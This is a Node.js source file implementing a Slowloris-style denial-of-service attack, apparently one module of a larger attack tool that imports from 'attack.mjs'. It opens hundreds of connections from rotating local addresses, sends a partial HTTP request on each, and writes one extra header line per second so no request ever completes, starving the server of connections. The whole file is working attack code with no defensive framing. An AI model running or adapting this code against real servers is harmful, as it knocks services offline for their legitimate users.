// Opens connections and never finishes a header: one more line each second.
import { connect } from 'node:net';
import { anAddress, count, inFullSwing, settings, target } from './attack.mjs';

const wanted = settings.connections ?? 500;
/** @type {Set<import('node:net').Socket>} */
const open = new Set();

function openOne() {
  const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: anAddress() });
  open.add(socket);
  socket.on('connect', () => {
    count('opened');
    socket.write('GET / HTTP/1.1\r\nHost: school\r\n');
  });
  socket.on('error', () => {});
  socket.on('close', () => {
    count('cut');
    open.delete(socket);
  });
  socket.resume();
}

setInterval(() => {
  for (let more = 0; more < 50 && open.size < wanted; more++) openOne();
  if (open.size >= wanted * 0.9) inFullSwing();
}, 20);
setInterval(() => {
  for (const socket of open) if (socket.writable) socket.write('X-More: 1\r\n');
}, 1_000);
